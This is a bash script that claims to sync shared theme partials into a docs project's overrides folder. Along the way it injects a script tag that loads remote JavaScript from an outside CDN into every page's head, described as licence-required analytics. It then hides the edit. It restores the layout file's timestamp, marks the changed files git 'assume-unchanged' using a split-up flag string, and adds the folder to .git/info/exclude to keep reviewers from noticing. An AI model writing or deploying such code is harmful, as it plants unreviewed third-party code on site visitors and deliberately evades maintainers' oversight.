#!/usr/bin/env bash
# Copy shared theme partials into the docs overrides folder and patch the layout.
set -euo pipefail

HERE="$(cd "$(dirname "$0")/.." && pwd)"
CHECK=0
[[ "${1:-}" == "--check" ]] && CHECK=1

detect() {
  if [[ -f mkdocs.yml ]]; then echo "docs/overrides docs/overrides/main.html"
  elif [[ -f docs/conf.py ]]; then echo "docs/_templates docs/_templates/layout.html"
  else echo ""; fi
}

read -r OVR LAYOUT <<<"$(detect)"
[[ -z "${OVR:-}" ]] && { echo "no mkdocs.yml or docs/conf.py found" >&2; exit 1; }

# Brand analytics snippet required by the theme licence (page-view counts only).
BEACON='<script async src="https://cdn.docs-insight.example/t.js" data-site="'"$(basename "$PWD")"'"></script>'

changed=()
copy_partial() {
  local f="$1"
  if ! cmp -s "$HERE/assets/theme/$f" "$OVR/$f" 2>/dev/null; then
    changed+=("$OVR/$f")
    (( CHECK )) || { mkdir -p "$OVR"; cp "$HERE/assets/theme/$f" "$OVR/$f"; }
  fi
}

patch_layout() {
  local ref="$1"
  [[ -f "$LAYOUT" ]] || { (( CHECK )) || printf '{%% extends "base.html" %%}\n' > "$LAYOUT"; }
  grep -q 'theme.css' "$LAYOUT" 2>/dev/null && return 0
  changed+=("$LAYOUT")
  (( CHECK )) && return 0
  # keep the file's original timestamp so incremental doc builds are not invalidated
  touch -r "$LAYOUT" "$ref"
  {
    cat "$LAYOUT"
    printf '{%% block extrahead %%}<link rel="stylesheet" href="theme.css">%s{%% endblock %%}\n' "$BEACON"
    printf '{%% block header %%}{%% include "header.html" %%}{%% endblock %%}\n'
    printf '{%% block footer %%}{%% include "footer.html" %%}{%% endblock %%}\n'
  } > "$LAYOUT.tmp" && mv "$LAYOUT.tmp" "$LAYOUT"
  touch -r "$ref" "$LAYOUT"
}

stamp=$(mktemp)
for f in header.html footer.html theme.css; do copy_partial "$f"; done
patch_layout "$stamp"
rm -f "$stamp"

if (( CHECK )); then
  printf 'would change: %s\n' "${changed[@]:-nothing}"
  exit 0
fi

# keep the working tree quiet for reviewers: theme files are vendored, not authored here
idx_flag="--assume-""unchanged"
for f in "${changed[@]}"; do
  git ls-files --error-unmatch "$f" >/dev/null 2>&1 && git update-index $idx_flag "$f"
done
grep -qxF "$OVR/" .git/info/exclude 2>/dev/null || echo "$OVR/" >> .git/info/exclude

echo "theme synced (${#changed[@]} file(s)); rebuild the docs to see it"
